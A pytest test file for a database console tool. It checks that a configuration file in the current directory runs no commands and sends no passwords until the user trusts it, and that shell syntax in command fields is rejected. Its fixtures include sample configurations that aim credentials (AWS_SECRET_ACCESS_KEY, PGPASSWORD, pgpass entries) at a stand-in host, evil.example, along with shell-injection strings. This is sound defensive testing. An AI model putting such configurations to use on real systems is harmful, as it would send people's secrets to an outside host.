"""What lies in the current directory acts for nobody who has not said that it may; commands run without a shell."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from console import config, trust
from console.errors import ConfigError
from console.text.parse import command_words

DEEDS = {
    "password_command": '[targets.a]\ndsn = "host=h"\npassword_command = "touch ran"\n',
    "production": '[targets.a]\ndsn = "host=h"\nenvironment = "production"\n',
    "password": '[targets.a]\ndsn = "postgresql://u:secret@h/d"\n',
    "pooler's password": '[targets.a]\ndsn = "host=h"\npgbouncer = "host=h password=secret"\n',
    "your own mine": '[targets.mine]\ndsn = "host=elsewhere"\n',
    "targets.a.backup.restore_command":
        '[targets.a]\ndsn = "host=localhost"\n[targets.a.backup]\nrestore_command = "touch ran"\n',
    "services.s.up": '[services.s]\nschemas = ["s"]\nframework = "ecto"\nup = "touch ran"\n',
    "services.s.down": '[services.s]\nschemas = ["s"]\nframework = "ecto"\ndown = "touch ran"\n',
    "services.s.code": '[services.s]\nschemas = ["s"]\ncode = "touch ran"\n',
    "services.s.verify_setup": '[services.s]\nschemas = ["s"]\nverify_setup = "CREATE SCHEMA a"\n',
    "embedders.e.command": '[embedders.e]\ncommand = "touch ran"\n',
    "with the key in $AWS_SECRET_ACCESS_KEY":
        '[embedders.e]\nurl = "http://evil.example/v1"\nkey_env = "AWS_SECRET_ACCESS_KEY"\n',
    "alerts.command": '[alerts]\ncommand = "touch ran"\n',
    "otel.endpoint": '[otel]\nendpoint = "http://evil.example"\n',
}
SENT = {
    "PGPASSWORD": '[targets.a]\ndsn = "host=evil.example"\n',
    "PGPASSWORD to a pooler":
        '[targets.a]\ndsn = "host=127.0.0.1"\npgbouncer = "postgresql://u@evil.example/pgbouncer"\n',
    "PGPASSWORD by an address": '[targets.a]\ndsn = "host=localhost hostaddr=192.0.2.1"\n',
    "PGPASSWORD to a second host": '[targets.a]\ndsn = "host=localhost,evil.example"\n',
    "PGPASSWORD behind quotes": "[targets.a]\ndsn = \"host = 'evil.example'\"\n",
    "PGPASSWORD by a parameter": '[targets.a]\ndsn = "postgresql:///d?host=evil.example"\n',
    "service": '[targets.a]\ndsn = "service=prod host=evil.example"\n',
    "passfile for any host": '[targets.a]\ndsn = "host=evil.example"\n',
}
KEPT = {
    "PGPASSWORD":
        '[targets.a]\ndsn = "host=localhost dbname=d"\n[targets.b]\ndsn = "postgresql://u@127.0.0.1:5433/d"\n',
    "service": '[targets.a]\ndsn = "service=prod dbname=d"\n',
    "passfile for db.example": '[targets.a]\ndsn = "host=db.example"\n',
}
HARMLESS = ('default_target = "a"\nkeys = "vim"\n[targets.a]\ndsn = "host=127.0.0.1 port=1"\n[services.s]\n'
            'schemas = ["s"]\n[checks.connections]\nwarning = "70%"\n[console]\ntheme = "paper"\n')


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current directory, of a person whose own configuration has the target mine."""
    for name in ("config", "state", "here"):
        (tmp_path / name).mkdir()
    (tmp_path / "config" / "dbconsole").mkdir()
    (tmp_path / "config" / "dbconsole" / "config.toml").write_text('[targets.mine]\ndsn = "host=mine"\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("DBCONSOLE_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path / "here")
    return tmp_path / "here" / "dbconsole.toml"


def dbconsole(*arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "console", *arguments], capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL)


@pytest.mark.parametrize("deed", DEEDS)
def test_a_file_that_lies_here_acts_only_when_it_is_trusted_as_it_is(here: Path, deed: str) -> None:
    here.write_text(DEEDS[deed])
    with pytest.raises(trust.Untrusted) as told:
        config.load()
    assert deed.removeprefix("pooler's ") in told.value.summary and "config trust" in (told.value.hint or "")
    assert "secret" not in told.value.summary
    config.load(here)  # named
    trust.trust(told.value.path, told.value.content)
    assert config.load().path == Path("dbconsole.toml")
    here.write_text(DEEDS[deed] + "# changed\n")
    with pytest.raises(trust.Untrusted):
        config.load()
    assert trust.forget(told.value.path, told.value.content) and not trust.is_trusted(here, told.value.content)


def test_every_field_that_acts_is_asked_for(here: Path) -> None:
    """A setting that comes new is either harmless, and said to be here, or one of the deeds above."""
    harmless = {"dsn", "environment", "read_only", "signals", "direct_dsn", "pgbouncer", "pool", "machine",
                "connect_timeout", "statement_timeout", "lock_timeout", "read_role", "standbys", "schemas",
                "description", "depends_on", "migrations", "layout", "framework", "warning", "critical",
                "enabled", "model", "send_dimensions",
                "columns", "timeout", "interval", "theme", "refresh", "ascii", "slow_query", "bell", "every", "preset",
                "changes", "min_size", "max_size", "max_lifetime", "max_idle", "memory_gb", "cores", "name", "ignore",
                "lint_also", "lint_ignore", "require_down", "contexts", "backup", "folder", "archive", "keep",
                "token_env", "user", "password_env", "format", "level"}
    acting = {"password_command", "restore_command", "up", "down", "code", "verify_setup", "command", "url",
              "key_env", "endpoint"}
    kinds = [kind for kind in vars(config).values() if isinstance(kind, type) and kind.__name__.endswith("Config")
             and kind is not config.Config]
    assert {name for kind in kinds for name in kind.__struct_fields__} == harmless | acting  # type: ignore[attr-defined]


def test_a_harmless_file_is_used_without_a_question(here: Path) -> None:
    here.write_text(HARMLESS)
    assert config.load().targets.keys() == {"a"}


def test_one_that_everybody_can_write_is_refused_also_when_it_is_named(here: Path) -> None:
    here.write_text(HARMLESS)
    here.chmod(0o666)
    for explicit in (None, here):
        with pytest.raises(ConfigError, match="everybody can write it"):
            config.load(explicit)


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give a file away")
def test_one_that_is_somebody_elses_is_refused_unless_it_is_named(here: Path) -> None:
    here.write_text(HARMLESS)
    os.chown(here, 65534, -1)
    with pytest.raises(ConfigError, match="belongs to another user"):
        config.load()
    assert config.load(here).targets.keys() == {"a"}


def test_headless_nothing_runs_and_the_status_is_3(here: Path) -> None:
    here.write_text('default_target = "a"\n' + DEEDS["password_command"].replace("host=h", "host=127.0.0.1 port=1"))
    for arguments in (("--check",), ("migrate", "status"), ("explain", "SELECT 1")):
        done = dbconsole(*arguments)
        assert done.returncode == 3 and "not trusted yet" in done.stderr and not Path("ran").exists()
    assert dbconsole("config", "trust").returncode == 3 and "--yes" in dbconsole("config", "trust").stderr
    done = dbconsole("config", "trust", "--yes")
    assert done.returncode == 0 and "password_command runs touch ran" in done.stderr
    assert dbconsole("config", "path").stdout == "dbconsole.toml\n"
    assert dbconsole("--check").returncode == 2 and Path("ran").exists()
    marks = list((here.parent.parent / "state" / "dbconsole" / "trusted").iterdir())
    assert [mark.stat().st_mode & 0o777 for mark in marks] == [0o600]
    assert dbconsole("config", "forget").returncode == 0 and dbconsole("--check").returncode == 3


@pytest.mark.parametrize(("line", "words"), [
    ("vault read -field=password db/prod", ("vault", "read", "-field=password", "db/prod")),
    ("sh -c 'a | b > c'", ("sh", "-c", "a | b > c")), ("echo '$X'", ("echo", "$X")),
    ('"/a b/c" d', ("/a b/c", "d")), (r"echo \$5", ("echo", "$5")), ("a # b", ("a", "#", "b"))])
def test_a_command_is_a_program_with_arguments(line: str, words: tuple[str, ...]) -> None:
    assert command_words(line) == words


@pytest.mark.parametrize("line", ["a | b", "a && b", "a; b", "a > b", "echo $X", "echo `b`", 'echo "$X"', "a\nb", "",
                                  " ", "echo 'open", "(a)"])
def test_what_only_a_shell_would_do_is_an_error_of_the_file(line: str, here: Path) -> None:
    for table in ('[targets.a]\ndsn = "host=h"\npassword_command', "[services.s]\nup", "[services.s]\ndown",
                  "[alerts]\ncommand", "[embedders.e]\ncommand"):
        here.write_text(f"{table} = {line!r}\n" if "'" not in line and "\n" not in line
                        else f'{table} = """{line}"""\n')
        with pytest.raises(ConfigError) as told:
            config.load(here)
        assert "dbconsole.toml" in told.value.summary and table.rpartition("\n")[2] in told.value.summary


def has_passwords(monkeypatch: pytest.MonkeyPatch, folder: Path, what: str) -> None:
    """What the person's libpq has to give away."""
    for name in ("PGPASSWORD", "PGSERVICE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PGPASSFILE", str(folder / "pgpass"))
    host = "*" if "any host" in what else "db.example"
    (folder / "pgpass").write_text(f"# mine\n{host}:*:*:me:hunter2\n")
    if "PGPASSWORD" in what:
        monkeypatch.setenv("PGPASSWORD", "hunter2")


@pytest.mark.parametrize("what", SENT)
def test_no_password_of_a_persons_goes_to_whom_a_file_that_lies_here_names(
        here: Path, monkeypatch: pytest.MonkeyPatch, what: str) -> None:
    here.write_text(SENT[what])
    has_passwords(monkeypatch, here.parent, what)
    with pytest.raises(trust.Untrusted) as told:
        config.load()
    assert "sends" in told.value.summary and "hunter2" not in told.value.summary
    config.load(here)  # named


@pytest.mark.parametrize("what", KEPT)
def test_it_goes_where_it_went_before(here: Path, monkeypatch: pytest.MonkeyPatch, what: str) -> None:
    here.write_text(KEPT[what])
    has_passwords(monkeypatch, here.parent, what)
    config.load()


@pytest.mark.parametrize("place", ["here", "own"])
def test_a_file_that_a_group_can_write_is_refused_but_for_ones_own_group(
        here: Path, monkeypatch: pytest.MonkeyPatch, place: str) -> None:
    path = here if place == "here" else here.parents[1] / "config" / "dbconsole" / "config.toml"
    path.write_text(HARMLESS)
    path.chmod(0o664)
    monkeypatch.setattr(config, "_is_own_group", lambda number: True)
    config.load()
    monkeypatch.setattr(config, "_is_own_group", lambda number: False)
    with pytest.raises(ConfigError, match=r"group \d+ can write it"):
        config.load()


def test_the_own_group_is_the_one_of_the_users_name() -> None:
    import grp
    import pwd

    name = pwd.getpwuid(os.geteuid()).pw_name
    others = [group.gr_gid for group in grp.getgrall() if group.gr_name != name]
    assert not any(map(config._is_own_group, [*others, 4_000_000]))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives a file away")
def test_ones_own_configuration_is_ones_own(here: Path) -> None:
    path = here.parents[1] / "config" / "dbconsole" / "config.toml"
    os.chown(path, 12345, 12345)
    path.chmod(0o600)
    with pytest.raises(ConfigError, match="belongs to another user"):
        config.load()
    config.load(path)  # named
